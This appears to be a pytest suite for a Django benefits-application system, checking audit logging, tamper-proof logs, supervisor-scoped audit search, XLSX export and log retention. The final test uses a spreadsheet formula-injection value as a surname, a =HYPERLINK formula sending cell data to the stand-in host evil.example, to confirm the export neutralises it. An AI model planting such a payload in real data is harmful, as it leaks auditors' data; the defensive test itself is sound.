"""Issue #13, item 7: an audit people can use."""

from __future__ import annotations

from datetime import timedelta
from io import BytesIO

import pytest
from django.contrib.admin.sites import site
from django.core.exceptions import ValidationError
from django.core.management import call_command
from django.test import RequestFactory
from django.utils import timezone
from openpyxl import load_workbook

from applications.models import AccessLog, ApplicationEvent
from tests.factories import (
    OrganisationFactory,
    ProvidedServiceFactory,
    SupervisorFactory,
    UserFactory,
)
from tests.files import pdf_upload
from tests.patronat import draft_for


@pytest.fixture
def other_office(db):
    office = OrganisationFactory(code="OTHER-EDU")
    ProvidedServiceFactory(organisation=office, service="patronat")
    return office


def test_a_refused_attempt_is_logged_without_telling_the_person(
    client, patronat_applicant, patronat_office
):
    application = draft_for(patronat_applicant, patronat_office)
    stranger = UserFactory()
    client.force_login(stranger)
    refused = client.get(f"/kk/cabinet/{application.pk}/", REMOTE_ADDR="10.1.2.3")
    missing = client.get("/kk/cabinet/987654/", REMOTE_ADDR="10.1.2.3")
    # The same answer whether the application exists or not.
    assert refused.status_code == missing.status_code == 404
    denied = AccessLog.objects.filter(user=stranger, outcome="denied").order_by("pk")
    assert [(d.application_id, d.what, d.address) for d in denied] == [
        (application.pk, f"/kk/cabinet/{application.pk}/", "10.1.2.3"),
        (None, "/kk/cabinet/987654/", "10.1.2.3"),
    ]
    assert denied[0].at is not None


def test_a_scan_of_another_application_is_refused_and_logged(
    client, patronat_applicant, patronat_office
):
    from applications.actions import attachment_add

    mine = draft_for(patronat_applicant, patronat_office)
    theirs_owner = UserFactory()
    theirs = draft_for(theirs_owner, patronat_office)
    from applications.registry import get_service

    item = get_service("patronat").all_checklist_items()[0].code
    scan = attachment_add(application=theirs, item=item, upload=pdf_upload(), actor=theirs_owner)
    client.force_login(patronat_applicant)
    assert client.get(f"/kk/cabinet/{mine.pk}/scans/{scan.pk}/").status_code == 404
    assert client.get(f"/kk/cabinet/{theirs.pk}/scans/{scan.pk}/").status_code == 404
    assert AccessLog.objects.filter(user=patronat_applicant, outcome="denied").count() == 2


def test_views_and_changes_keep_the_address(client, patronat_applicant, patronat_office):
    client.force_login(patronat_applicant)
    application = draft_for(patronat_applicant, patronat_office)
    client.get(f"/kk/cabinet/{application.pk}/", REMOTE_ADDR="192.0.2.7")
    from applications.actions import missing_documents

    client.post(
        f"/kk/cabinet/{application.pk}/upload/",
        {"item": missing_documents(application)[0].code, "file": pdf_upload()},
        REMOTE_ADDR="192.0.2.7",
    )
    assert AccessLog.objects.get(application=application).address == "192.0.2.7"
    assert ApplicationEvent.objects.get(
        application=application, action="attachment_added"
    ).address == ("192.0.2.7")
    # Written outside a request (the draft, in the test): no address.
    assert ApplicationEvent.objects.filter(application=application, address=None).exists()


@pytest.mark.django_db
def test_the_logs_cannot_be_changed_or_deleted(patronat_applicant, patronat_office):
    application = draft_for(patronat_applicant, patronat_office)
    event = application.events.first()
    log = AccessLog.objects.create(user=patronat_applicant, application=application, what="x")
    for row in (event, log):
        row.reason = row.what = "changed"
        with pytest.raises(ValidationError):
            row.save()
        with pytest.raises(ValidationError):
            row.delete()
    with pytest.raises(ValidationError):
        AccessLog.objects.all().delete()
    with pytest.raises(ValidationError):
        ApplicationEvent.objects.update(reason="x")


@pytest.mark.django_db
def test_nothing_is_editable_in_the_admin(admin_user):
    request = RequestFactory().get("/")
    request.user = admin_user
    for model in (AccessLog, ApplicationEvent):
        model_admin = site._registry[model]
        assert not model_admin.has_add_permission(request)
        assert not model_admin.has_change_permission(request)
        assert not model_admin.has_delete_permission(request)
        assert model_admin.get_actions(request) == {}
        assert model_admin.search_fields and model_admin.list_filter


def test_the_admin_lists_are_readable(admin_client, patronat_applicant, patronat_office):
    application = draft_for(patronat_applicant, patronat_office)
    AccessLog.objects.create(user=patronat_applicant, application=application, what="x")
    for name in ("accesslog", "applicationevent"):
        page = admin_client.get(f"/kk/admin/applications/{name}/?q={application.number or ''}")
        assert page.status_code == 200, name
        row = (AccessLog if name == "accesslog" else ApplicationEvent).objects.first()
        change = admin_client.post(f"/kk/admin/applications/{name}/{row.pk}/change/", {})
        assert change.status_code in (302, 403), name
    assert AccessLog.objects.filter(what="x").exists()


def test_the_search_is_scoped_to_the_supervisors_organisations(
    client, patronat_applicant, patronat_office, other_office
):
    ours = draft_for(patronat_applicant, patronat_office)
    theirs = draft_for(UserFactory(), other_office)
    stranger = UserFactory(last_name="Бөтенов")
    AccessLog.objects.create(user=stranger, application=ours, what="/x/", outcome="denied")
    AccessLog.objects.create(user=stranger, application=theirs, what="/y/", outcome="denied")
    AccessLog.objects.create(user=stranger, application=None, what="/z/", outcome="denied")
    supervisor = SupervisorFactory(organisation=patronat_office)
    client.force_login(supervisor)
    page = client.get("/ru/supervision/audit/")
    assert page.status_code == 200
    seen = {line.application.pk for line in page.context["lines"] if line.application}
    assert seen == {ours.pk}
    denied = client.get("/ru/supervision/audit/", {"kind": "denied", "actor": "Бөтенов"})
    assert [line.what for line in denied.context["lines"]] == ["/x/"]
    changed = client.get("/ru/supervision/audit/", {"kind": "changed"})
    assert {line.kind for line in changed.context["lines"]} == {"changed"}
    assert all(line.application.pk == ours.pk for line in changed.context["lines"])


def test_the_administrator_sees_everything(
    admin_client, patronat_applicant, patronat_office, other_office
):
    ours = draft_for(patronat_applicant, patronat_office)
    theirs = draft_for(UserFactory(), other_office)
    stranger = UserFactory()
    AccessLog.objects.create(user=stranger, application=None, what="/z/", outcome="denied")
    page = admin_client.get("/kk/supervision/audit/")
    applications = {line.application.pk for line in page.context["lines"] if line.application}
    assert applications == {ours.pk, theirs.pk}
    assert "/z/" in [line.what for line in page.context["lines"]]


def test_search_by_child_number_and_dates(client, patronat_applicant, patronat_office):
    from applications.actions import application_submit

    application = draft_for(patronat_applicant, patronat_office)
    other = draft_for(UserFactory(first_name="Басқа", last_name="Адам"), patronat_office)
    supervisor = SupervisorFactory(organisation=patronat_office)
    client.force_login(supervisor)

    def found(**params):
        page = client.get("/kk/supervision/audit/", params)
        return {line.application.pk for line in page.context["lines"] if line.application}

    assert found(person="Серіков Нұрлан") == {application.pk, other.pk}  # both children
    assert found(person="Сейітова") == {application.pk}
    assert found(person=patronat_applicant.iin) == {application.pk}
    today = timezone.localdate()
    assert found(date_from=today.isoformat(), date_to=today.isoformat()) == {
        application.pk,
        other.pk,
    }
    assert found(date_to=(today - timedelta(days=1)).isoformat()) == set()
    # Dates the wrong way round: said, not silently "nothing found".
    reversed_range = client.get(
        "/ru/supervision/audit/",
        {"date_from": today.isoformat(), "date_to": (today - timedelta(days=3)).isoformat()},
    )
    from django.utils import translation

    with translation.override("ru"):
        from django.utils.translation import gettext

        assert gettext("The end date is before the start date.") in (
            reversed_range.content.decode()
        )
    del application_submit


def test_the_export(client, patronat_applicant, patronat_office):
    application = draft_for(patronat_applicant, patronat_office)
    AccessLog.objects.create(
        user=patronat_applicant,
        application=application,
        what="application page",
        address="10.0.0.9",
    )
    supervisor = SupervisorFactory(organisation=patronat_office)
    client.force_login(supervisor)
    response = client.get("/ru/supervision/audit/", {"format": "xlsx"})
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    sheet = load_workbook(BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert len(rows) == 1 + ApplicationEvent.objects.count() + 1
    viewed = [r for r in rows if r[6] == "10.0.0.9"]
    assert len(viewed) == 1
    assert viewed[0][2] == patronat_applicant.full_name


def test_others_may_not_search(client, patronat_applicant, patronat_clerk):
    for user in (patronat_applicant, patronat_clerk):
        client.force_login(user)
        assert client.get("/kk/supervision/audit/").status_code == 403


def test_retention(patronat_applicant, patronat_office, settings, capsys):
    settings.AUDIT_RETENTION_DAYS = 30
    application = draft_for(patronat_applicant, patronat_office)
    old = AccessLog.objects.create(user=patronat_applicant, application=application, what="x")
    long_ago = timezone.now() - timedelta(days=31)
    # Age the rows by SQL: the models refuse to change an audit line.
    from django.db import connection

    with connection.cursor() as cursor:
        cursor.execute(
            f"UPDATE {AccessLog._meta.db_table} SET at = %s WHERE id = %s",  # noqa: S608 (a model's table)
            [long_ago, old.pk],
        )
    recent = AccessLog.objects.create(user=patronat_applicant, application=application, what="y")
    call_command("apply_audit_retention", "--dry-run")
    assert "1" in capsys.readouterr().out
    assert AccessLog.objects.filter(pk=old.pk).exists()
    call_command("apply_audit_retention")
    assert not AccessLog.objects.filter(pk=old.pk).exists()
    assert AccessLog.objects.filter(pk=recent.pk).exists()
    assert ApplicationEvent.objects.filter(application=application).exists()


@pytest.mark.parametrize("language", ["kk", "ru"])
def test_what_was_opened_is_named_in_words(patronat_applicant, patronat_office, language):
    """The access log stores short codes (a view's name, a checklist item, a document
    kind and its language); the audit page names them in the reader's language."""
    import re

    from django.utils import translation

    from supervision.audit import _what

    application = draft_for(patronat_applicant, patronat_office)
    stored = [
        "check answers",
        "signing step",
        "filing confirmation",
        "withdraw page",
        "delete page",
        "answers contacts",
        "scan identity_document",
        "document refusal_receipt ru",
        "document acceptance_receipt kk",
    ]
    with translation.override(language):
        shown = [str(_what("viewed", what, application)) for what in stored]
    for words in shown:
        assert not re.search(r"[a-z]{3,}", words), words  # no code, no English word
    assert len(set(shown)) == len(shown)


def test_an_applicant_trying_an_office_page_is_refused_and_logged(
    client, patronat_applicant, patronat_office
):
    application = draft_for(patronat_applicant, patronat_office)
    client.force_login(patronat_applicant)
    refused = client.get(f"/ru/office/{application.pk}/", REMOTE_ADDR="10.1.2.4")
    assert refused.status_code == 403
    denied = AccessLog.objects.get(user=patronat_applicant, outcome="denied")
    assert (denied.application_id, denied.what, denied.address) == (
        application.pk,
        f"/ru/office/{application.pk}/",
        "10.1.2.4",
    )


def test_a_name_typed_as_a_formula_is_exported_as_text(client, patronat_office):
    """A surname like =HYPERLINK(…) must not run in the auditor's spreadsheet."""
    formula = '=HYPERLINK("http://evil.example/?leak="&A2,"Иванов")'
    stranger = UserFactory(last_name=formula, first_name="Иван")
    application = draft_for(stranger, patronat_office)
    AccessLog.objects.create(user=stranger, application=application, what="application page")
    client.force_login(SupervisorFactory(organisation=patronat_office))
    response = client.get("/ru/supervision/audit/", {"format": "xlsx"})
    sheet = load_workbook(BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value]
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    assert any(str(cell.value).startswith(formula) for cell in cells)
